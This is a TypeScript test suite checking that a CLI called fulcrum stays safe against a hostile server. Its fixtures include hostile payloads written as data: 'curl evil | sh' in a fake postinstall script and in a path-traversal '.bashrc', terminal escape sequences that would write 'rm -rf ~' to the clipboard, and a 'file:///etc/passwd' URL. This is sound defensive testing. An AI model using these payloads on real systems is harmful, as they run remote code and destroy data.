// The CLI against whatever answers at its address (a wrong URL, a proxy, a man in the middle on plain
// http): an endless answer, one that never comes or drips, a redirect to another host, a download cut
// off midway. Each command ends in bounded time and memory with a message naming the server, exit 1,
// sends neither the token nor the request anywhere else, and leaves no half-written file.
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { terminalSafe } from '../../src/cli/terminal.js';
import { cliWithin } from '../support/process.js';

type Handler = (req: http.IncomingMessage, res: http.ServerResponse) => void;

/** A local HTTP server answering with `handler`; `requests` records what reached it. */
async function hostile(handler: Handler, host = '127.0.0.1') {
  const requests: Array<{ method?: string; url?: string; authorization?: string; body: string }> = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => {
      body += d;
    });
    requests.push({
      method: req.method,
      url: req.url,
      authorization: req.headers.authorization,
      get body() {
        return body;
      },
    });
    handler(req, res);
  });
  await new Promise<void>((r) => server.listen(0, host, r));
  const url = `http://${host}:${(server.address() as AddressInfo).port}`;
  return { url, requests, server };
}

/**
 * A server offering device sign-in: a code that expires in `expiresIn` s, to be polled for every
 * `interval` s; each poll is answered `poll` (status, body).
 */
function deviceSignIn(code: { expiresIn: number; interval: number }, poll: [number, unknown]): Handler {
  return (req, res) => {
    const json = (status: number, body: unknown) =>
      res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    // Fulcrum's shapes, which the CLI checks every answer against (src/cli/answers.ts).
    if (req.url === '/auth/session') return json(200, { signIn: { oidc: true, deviceLogin: true }, session: null });
    if (req.url === '/auth/device')
      return json(200, { deviceCode: 'dc', userCode: 'ABCD-EFGH', verificationUri: 'https://idp.example/device', ...code });
    return json(...poll);
  };
}

describe('the CLI against a hostile server', { timeout: 120_000 }, () => {
  const servers: http.Server[] = [];
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fulcrum-cli-hostile-'));
  const env = (url: string, extra: NodeJS.ProcessEnv = {}) => ({
    PATH: process.env.PATH,
    FULCRUM_DATA_DIR: dir,
    FULCRUM_URL: url,
    FULCRUM_TOKEN: 'fpt_the-secret-token',
    ...extra,
  });
  const start = async (handler: Handler, host?: string) => {
    const s = await hostile(handler, host);
    servers.push(s.server);
    return s;
  };
  afterEach(() => {
    for (const s of servers.splice(0)) {
      s.closeAllConnections();
      s.close();
    }
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('stops reading an endless answer at 256 MiB and says so', async () => {
    let sent = 0;
    const s = await start((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(1 << 20, 0x20);
      const write = () => {
        while (!res.destroyed && res.write(chunk)) sent += chunk.length;
        if (!res.destroyed) res.once('drain', write);
      };
      res.on('close', () => res.removeAllListeners('drain'));
      write();
    });
    const r = await cliWithin(env(s.url), ['decisions']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`fulcrum decisions: Fulcrum at ${s.url} answered /v1/audit with more than 268435456 bytes`);
    expect(sent).toBeLessThan(300 * 1024 * 1024);
  });

  it('gives up on an answer that never comes, or drips without end, after FULCRUM_CLIENT_TIMEOUT_MS', async () => {
    const silent = await start(() => undefined);
    const timers: NodeJS.Timeout[] = [];
    const drip = await start((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"items": [');
      timers.push(setInterval(() => res.write(' '), 200));
    });
    for (const s of [silent, drip]) {
      const r = await cliWithin(env(s.url, { FULCRUM_CLIENT_TIMEOUT_MS: '1500' }), ['decisions'], 30_000);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toContain(
        `Fulcrum at ${s.url} did not finish answering /v1/audit within 1.5 s (FULCRUM_CLIENT_TIMEOUT_MS)`,
      );
    }
    for (const t of timers) clearInterval(t);
    const bad = await cliWithin(env(silent.url, { FULCRUM_CLIENT_TIMEOUT_MS: 'soon' }), ['decisions']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('FULCRUM_CLIENT_TIMEOUT_MS must be a positive number of milliseconds, got "soon"');
  });

  it('fails a command answered with a switch of protocol (101) instead of succeeding without a word', async () => {
    // A websocket endpoint, a proxy that upgrades: node:http hands such an answer to 'upgrade'
    // listeners and, with none, drops the connection without an error; the command ended with exit 0.
    const s = await start((_req, res) => res.writeHead(101, { connection: 'upgrade', upgrade: 'websocket' }).end());
    const bundle = path.join(dir, 'upgraded.yaml');
    fs.writeFileSync(bundle, 'apiVersion: fulcrum/v1\nkind: Person\nmetadata: {name: someone}\nspec: {}\n');
    for (const args of [['decisions'], ['apply', '-f', bundle]]) {
      const r = await cliWithin(env(s.url, { FULCRUM_CLIENT_TIMEOUT_MS: '5000' }), args, 30_000);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toMatch(
        new RegExp(
          `^fulcrum ${args[0]}: Fulcrum at ${s.url} answered /v1/\\S+ with 101, a switch to websocket: not an answer\\n$`,
        ),
      );
    }
  });

  it('gives up on a server that never reads what a command sends, after FULCRUM_CLIENT_TIMEOUT_MS', async () => {
    // 15 MiB: more than the connection's buffers hold, so the upload itself waits on the server.
    let received = 0;
    const s = await start((req) => {
      req.once('data', (d: Buffer) => {
        received += d.length;
        req.pause();
      });
    });
    const bundle = path.join(dir, 'large.yaml');
    fs.writeFileSync(bundle, `# ${'x'.repeat(15 * 1024 * 1024)}\n`);
    const r = await cliWithin(env(s.url, { FULCRUM_CLIENT_TIMEOUT_MS: '1500' }), ['apply', '-f', bundle], 30_000);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`fulcrum apply: Fulcrum at ${s.url} did not finish answering /v1/apply within 1.5 s`);
    expect(received).toBeLessThan(15 * 1024 * 1024);
  });

  it('reaches an https server whose CA is given as NODE_EXTRA_CA_CERTS, and says so when it is not given', async () => {
    // test/fixtures/tls: a self-signed certificate for 127.0.0.1 (valid to 2126), its own CA.
    const tls = path.join(import.meta.dirname, '../fixtures/tls');
    const server = https.createServer(
      { key: fs.readFileSync(path.join(tls, 'server.key')), cert: fs.readFileSync(path.join(tls, 'server.pem')) },
      (_req, res) =>
        res
          .writeHead(403, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: { code: 'forbidden', message: 'not yours' } })),
    );
    servers.push(server);
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const url = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const trusted = await cliWithin(env(url, { NODE_EXTRA_CA_CERTS: path.join(tls, 'server.pem') }), ['decisions']);
    expect(trusted.stderr).toBe('fulcrum decisions: not yours (forbidden)\n');
    const untrusted = await cliWithin(env(url), ['decisions']);
    expect(untrusted.code).toBe(1);
    expect(untrusted.stderr).toBe(
      `fulcrum decisions: cannot reach Fulcrum at ${url}: its TLS certificate is not one this machine trusts (DEPTH_ZERO_SELF_SIGNED_CERT); if your own CA signed it, give that CA's certificate as NODE_EXTRA_CA_CERTS=FILE\n`,
    );
    // https:// to a server speaking plain http: the server runs, the scheme is wrong.
    const plain = await start(() => undefined);
    const wrong = plain.url.replace('http:', 'https:');
    const r = await cliWithin(env(wrong), ['decisions']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(
      new RegExp(
        `^fulcrum decisions: cannot reach Fulcrum at ${wrong}: it does not answer in TLS \\(\\w+\\); is it an http:// URL\\?\\n$`,
      ),
    );
  });

  it('does not follow a redirect to another host: neither the token nor the body goes there', async () => {
    const other = await start((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{}'), '127.0.0.2');
    const s = await start((req, res) => res.writeHead(307, { location: `${other.url}${req.url}` }).end());
    const bundle = path.join(dir, 'agent.yaml');
    fs.writeFileSync(bundle, 'apiVersion: fulcrum/v1\nkind: Person\nmetadata: {name: secret-person}\nspec: {}\n');
    for (const args of [['decisions'], ['apply', '-f', bundle]]) {
      const r = await cliWithin(env(s.url), args);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toContain(`Fulcrum at ${s.url} answered 307, a redirect to ${other.url}/v1/`);
      expect(r.stderr).toContain('not followed');
    }
    expect(s.requests).toHaveLength(2);
    expect(other.requests).toEqual([]);
  });

  it('writes an export only as the descriptor files of registry kinds, whatever names the answer gives', async () => {
    // Fulcrum names them <kinds>.yaml; the answer chose any name in the folder (its basename taken):
    // a package.json with an install script, a Makefile, a .bashrc when exporting into a home.
    const files = [
      { path: 'agents.yaml', content: 'kind: Agent\n' },
      { path: 'package.json', content: '{"scripts":{"postinstall":"curl evil | sh"}}' },
      { path: '../../.bashrc', content: 'curl evil | sh\n' },
    ];
    const s = await start((_req, res) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ files })),
    );
    const out = fs.mkdtempSync(path.join(dir, 'export-'));
    fs.writeFileSync(path.join(out, 'package.json'), '{"name":"mine"}');
    const r = await cliWithin(env(s.url), ['export', '-o', out]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`Fulcrum at ${s.url} named an export file "package.json"`);
    // Nothing written: the names are checked before any file is.
    expect(fs.readdirSync(out).sort()).toEqual(['package.json']);
    expect(fs.readFileSync(path.join(out, 'package.json'), 'utf8')).toBe('{"name":"mine"}');
    expect(fs.existsSync(path.join(out, '.bashrc'))).toBe(false);
  });

  it('leaves the file a download would replace as it was when the answer is cut off midway', async () => {
    const s = await start((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/gzip', 'content-length': '100000' });
      res.write(Buffer.alloc(50_000, 1), () => res.destroy());
    });
    const target = path.join(dir, 'evidence.tar.gz');
    fs.writeFileSync(target, 'the archive of last quarter');
    const r = await cliWithin(env(s.url), ['evidence', 'export', '--initiative', 'x', '-o', target]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(
      `fulcrum evidence: ${target} not written (an existing one is kept): Fulcrum at ${s.url} cut off its answer to /v1/initiatives/x/evidence after 50000 bytes`,
    );
    expect(fs.readFileSync(target, 'utf8')).toBe('the archive of last quarter');
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    // Into a pipe, what came is passed on: the message says the output stopped midway, and why.
    const piped = await cliWithin(env(s.url), ['evidence', 'export', '--initiative', 'x', '-o', '/dev/stdout']);
    expect(piped.code, piped.stderr).toBe(1);
    expect(piped.stderr).toContain(
      `fulcrum evidence: /dev/stdout: writing failed midway: Fulcrum at ${s.url} cut off its answer to /v1/initiatives/x/evidence after 50000 bytes`,
    );
  });

  it('says the file a download would replace was kept when the answer stops coming (FULCRUM_CLIENT_TIMEOUT_MS)', async () => {
    const s = await start((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/gzip', 'content-length': '100000' });
      res.write(Buffer.alloc(50_000, 1));
    });
    const target = path.join(dir, 'stalled.tar.gz');
    fs.writeFileSync(target, 'the archive of last quarter');
    const r = await cliWithin(env(s.url, { FULCRUM_CLIENT_TIMEOUT_MS: '1500' }), [
      'evidence',
      'export',
      '--initiative',
      'x',
      '-o',
      target,
    ]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(
      `fulcrum evidence: ${target} not written (an existing one is kept): Fulcrum at ${s.url} did not finish answering /v1/initiatives/x/evidence within 1.5 s`,
    );
    expect(fs.readFileSync(target, 'utf8')).toBe('the archive of last quarter');
  });

  it('names the server that cut off an answer a command reads, as a command failure (exit 1)', async () => {
    // A proxy restarting, a server crashing midway: the JSON ends early and the connection closes.
    const s = await start((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' });
      res.write('{"items": [', () => res.destroy());
    });
    const r = await cliWithin(env(s.url), ['decisions']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(
      new RegExp(
        `^fulcrum decisions: Fulcrum at ${s.url} cut off its answer to /v1/audit after 11 bytes( \\((ECONNRESET|aborted)\\))?\n$`,
      ),
    );
  });

  it('signs in at the pace of at most a poll a second and gives up when the code expires, whatever interval the server sets', async () => {
    // 10^7 s is past setTimeout's 2^31 ms: it fired at once, and the CLI polled in a tight loop.
    const s = await start(deviceSignIn({ expiresIn: 3, interval: 1e7 }, [202, { pending: 'authorization_pending' }]));
    const r = await cliWithin(env(s.url, { XDG_CONFIG_HOME: path.join(dir, 'cfg') }), ['login'], 30_000);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain('the code expired before it was entered');
    expect(s.requests.filter((q) => q.url === '/auth/device/token').length).toBeLessThanOrEqual(4);
  });

  it('says an answer that is not JSON did not come from a Fulcrum server', async () => {
    const s = await start((_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Sign in to the proxy</h1>'),
    );
    const r = await cliWithin(env(s.url), ['decisions']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(
      new RegExp(
        `^fulcrum decisions: the answer of Fulcrum at ${s.url} to /v1/audit is not JSON \\(.*\\): is --url / FULCRUM_URL a Fulcrum server\\?$`,
        'm',
      ),
    );
  });

  it('says an answer of another shape is not what this fulcrum reads, and prints no key or JSON it was not given', async () => {
    // Another service's JSON on the port, or a Fulcrum of another version: {} to every call, an empty
    // 200, a 204. A key was printed as "undefined" and `--json` wrote "undefined", both with exit 0;
    // every other command failed with a bare "Cannot read properties of undefined".
    const commands = [
      [['keys', 'create', '--agent', 'a'], '/v1/agents/a/keys'],
      [['tokens', 'create', '--person', 'p'], '/v1/people/p/tokens'],
      [['diagnose'], '/v1/diagnostic'],
      [['costs'], '/v1/costs'],
    ] as const;
    // `{}` is JSON, which --json passes on as it is; no body at all is not.
    const asJson = [['diagnose', '--json'], '/v1/diagnostic'] as const;
    for (const [answer, tried] of [
      [(res: http.ServerResponse) => res.writeHead(200, { 'content-type': 'application/json' }).end('{}'), commands],
      [(res: http.ServerResponse) => res.writeHead(200, { 'content-type': 'application/json' }).end(), [...commands, asJson]],
      [(res: http.ServerResponse) => res.writeHead(204).end(), [...commands, asJson]],
    ] as const) {
      const s = await start((_req, res) => answer(res));
      for (const [args, path] of tried) {
        const r = await cliWithin(env(s.url), [...args]);
        const said = `${args.join(' ')}: ${r.stdout} ${r.stderr}`;
        expect(r.code, said).toBe(1);
        expect(r.stdout, said).toBe('');
        expect(r.stderr, said).toContain(
          `fulcrum ${args[0]}: the answer of Fulcrum at ${s.url} to ${path} is not what this fulcrum reads (`,
        );
        expect(r.stderr, said).toContain('is --url / FULCRUM_URL a Fulcrum server, of this version?');
      }
    }
    // An error answer whose message is not text, or whose details are not problems.
    const s = await start((_req, res) =>
      res
        .writeHead(422, { 'content-type': 'application/json' })
        .end(JSON.stringify({ error: { code: { a: 1 }, message: { b: 2 }, details: [null, 7] } })),
    );
    for (const args of [['decisions'], ['apply', '-f', path.join(dir, 'one.yaml')]]) {
      fs.writeFileSync(path.join(dir, 'one.yaml'), 'kind: Agent\n');
      const r = await cliWithin(env(s.url), args);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toContain(`fulcrum ${args[0]}: HTTP 422: {"error":{"code":{"a":1}`);
      expect(r.stderr).not.toContain('[object Object]');
    }
  });

  it('fails monitors answered without items as that answer, naming the server, not with its usage', async () => {
    // `{}` printed "usage: fulcrum monitors [status] | evaluate" with exit 2, as if the command were mistyped.
    const s = await start((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{}'));
    for (const [args, path] of [
      [['monitors'], '/v1/monitors/status'],
      [['monitors', 'status', '--json'], '/v1/monitors/status'],
      [['monitors', 'evaluate'], '/v1/monitors/evaluate'],
    ] as const) {
      const r = await cliWithin(env(s.url), [...args]);
      const said = `${args.join(' ')}: ${r.stdout} ${r.stderr}`;
      expect(r.code, said).toBe(1);
      expect(r.stdout, said).toBe('');
      expect(r.stderr, said).not.toContain('usage');
      expect(r.stderr, said).toContain(
        `fulcrum monitors: the answer of Fulcrum at ${s.url} to ${path} is not what this fulcrum reads (`,
      );
    }
    // What was mistyped is still told by the usage, before anything is sent.
    const sent = s.requests.length;
    const r = await cliWithin(env(s.url), ['monitors', 'evaluat']);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('usage: fulcrum monitors');
    expect(s.requests.length).toBe(sent);
  });

  it('refuses a name or id of dots, which would reach another route, before sending anything (exit 2)', async () => {
    // `..` as a path parameter is a dot segment the URL resolves: revoking key ".." of an agent sent
    // DELETE /v1/agents/<name>/ (here, where anything answers 204, it said "revoked .." and exit 0).
    const s = await start((_req, res) => res.writeHead(204).end());
    for (const [args, route] of [
      [['keys', 'revoke', '--agent', 'support-bot', '..'], 'DELETE /v1/agents/support-bot/'],
      [['tokens', 'revoke', '--person', 'ana', '..'], 'DELETE /v1/people/ana/'],
      [['budget', 'withdraw', 'it-2026', '..'], 'DELETE /v1/budgets/it-2026/'],
      [['mcp', 'discover', '..'], 'GET /v1/tools'],
      [['agents', 'suspend', '.', '--reason', 'x'], 'POST /v1/agents/suspend'],
    ] as const) {
      const r = await cliWithin(env(s.url), [...args]);
      expect(r.code, r.stderr).toBe(2);
      const dots = (args as readonly string[]).includes('..') ? '..' : '.';
      expect(r.stderr).toContain(`"${dots}" is not a name or an id: as a path segment it would reach ${route}; nothing was sent`);
    }
    expect(s.requests).toEqual([]);
  });

  it.runIf(process.platform === 'linux')('ends with a message when the folder to write into cannot be made', async () => {
    // Node's recursive mkdir retries for ever where mkdir says ENOENT though the parent exists (/proc):
    // `export -o /proc/x` spun at full CPU until killed.
    const s = await start((_req, res) =>
      res
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ files: [{ path: 'agents.yaml', content: 'kind: Agent\n' }] })),
    );
    const file = path.join(dir, 'a-file');
    fs.writeFileSync(file, '');
    for (const [out, says] of [
      ['/proc/fulcrum-nowhere/out', 'cannot make the folder /proc/fulcrum-nowhere: ENOENT: no such file or directory'],
      [path.join(file, 'out'), `cannot make the folder ${file}/out: ENOTDIR: not a directory`],
      [file, `cannot make the folder ${file}: EEXIST: file already exists`],
    ]) {
      const r = await cliWithin(env(s.url), ['export', '-o', out as string], 30_000);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toContain(`fulcrum export: ${says}`);
    }
  });

  it('shows what a terminal would act on as escapes: the screen, the title, the clipboard and reading order stay its own', async () => {
    // An error message, then an approval listed, each holding: a title and clipboard write (OSC 0, OSC 52),
    // a screen clear (CSI through 8-bit C1), a carriage return drawing over the line, a right-to-left override.
    const evil = 'ok\u001b]0;pwned\u0007\u001b]52;c;cm0gLXJmIH4=\u0007\u009b2J\rfine ord-\u202e0009-1234';
    const s = await start((req, res) => {
      if (req.url?.startsWith('/v1/audit'))
        return res
          .writeHead(409, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: { code: 'conflict', message: evil } }));
      // A tool named with the six characters of an escape, which must not read as the override.
      const approval = {
        id: 'apr_1',
        decisionId: 'dec_1',
        status: 'pending',
        agent: 'a',
        tool: 't\\u202E',
        arguments: { orderId: evil },
        dataDomains: [],
        reasons: [],
        createdAt: 'x',
        expiresAt: 'x',
        decidedBy: null,
        decidedAt: null,
        comment: null,
        usedAt: null,
        usedDecisionId: null,
        revokedAt: null,
        revokedReason: null,
        agentOwner: null,
        keyIssuer: null,
        oauthClient: null,
        clientBinders: [],
      };
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ items: [approval] }));
    });
    const refused = await cliWithin(env(s.url), ['decisions']);
    expect(refused.code).toBe(1);
    const listed = await cliWithin(env(s.url), ['approvals', 'list']);
    expect(listed.code, listed.stderr).toBe(0);
    for (const out of [refused.stderr, listed.stdout]) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(out).toContain('\\u202E0009-1234');
    }
    expect(listed.stdout).toContain('\tt\\u005Cu202E\t');
    expect(refused.stderr).toContain('ok\\u001B]0;pwned\\u0007\\u001B]52;c;cm0gLXJmIH4=\\u0007\\u009B2J\\u000Dfine ord-');
    // --json is JSON still, and reads back as what the server sent, past the basic plane too (a tag
    // character, hidden text for a model, was written as \u{E0041}, which no JSON reader takes).
    const json = await cliWithin(env(s.url), ['approvals', 'list', '--json']);
    expect(JSON.parse(json.stdout)[0].arguments.orderId).toBe(evil);
    expect(JSON.parse(json.stdout)[0].tool).toBe('t\\u202E');
    expect(terminalSafe('a\u{E0041}b')).toBe('a\\uDB40\\uDC41b');
    expect(JSON.parse(terminalSafe(JSON.stringify({ v: 'a\u{E0041}\u202Eb\\u202E' }), { json: true }))).toEqual({
      v: 'a\u{E0041}\u202Eb\\u202E',
    });
  });

  it("does not write a session over a credentials file it cannot read, which may hold other servers' sessions", async () => {
    const s = await start(
      deviceSignIn({ expiresIn: 30, interval: 1 }, [200, { token: 'fss_new', person: 'ana', expiresAt: '2099-01-01T00:00:00Z' }]),
    );
    const config = path.join(dir, 'broken-cfg');
    fs.mkdirSync(config, { mode: 0o700 });
    const file = path.join(config, 'credentials.json');
    const cutShort = '{"servers": {"https://prod.example": {"token": "fss_prod", "person": "ana", "expiresAt": "2099';
    fs.writeFileSync(file, cutShort, { mode: 0o600 });
    const r = await cliWithin(env(s.url, { FULCRUM_CONFIG_DIR: config }), ['login'], 30_000);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`${file} is not a credentials file of fulcrum login: fix or remove it`);
    expect(fs.readFileSync(file, 'utf8')).toBe(cutShort);
  });

  it('refuses a server address that is not an http(s) URL, before sending anything (exit 2)', async () => {
    for (const [url, says] of [
      ['file:///etc/passwd', 'FULCRUM_URL "file:///etc/passwd": file: is not http: or https:'],
      ['fulcrum.example.com:4100', 'FULCRUM_URL "fulcrum.example.com:4100": fulcrum.example.com: is not http: or https:'],
      ['http://admin:hunter2@127.0.0.1:9', 'FULCRUM_URL "http://…@127.0.0.1:9": a URL with a user name or password'],
    ] as const) {
      const r = await cliWithin(env(url), ['decisions']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toContain(says);
      expect(r.stderr).not.toContain('hunter2');
    }
  });
});
